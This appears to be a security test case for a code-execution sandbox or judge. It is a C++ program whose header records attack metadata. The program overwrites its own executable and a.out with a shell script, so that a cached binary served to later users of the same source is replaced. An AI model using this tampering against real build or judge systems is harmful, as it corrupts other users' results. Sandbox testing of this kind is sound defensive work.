// attack: replaces the program that it was compiled to, which may be kept for those who send the same source
// times: 3
// status: succeeded
// stdout: original
#include <cstdio>
#include <initializer_list>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>
int main() {
	puts("original");
	fflush(stdout);
	const char fake[] = "#!/bin/sh\necho replaced\n";
	for (const char *name : {"/proc/self/exe", "a.out"}) {
		chmod(name, 0777);
		int file = open(name, O_WRONLY | O_TRUNC);
		if (file >= 0 && write(file, fake, sizeof fake - 1) < 0) puts("half");
	}
	unlink("a.out");
	int file = open("a.out", O_WRONLY | O_CREAT | O_TRUNC, 0777);
	if (file >= 0 && write(file, fake, sizeof fake - 1) < 0) puts("half");
}
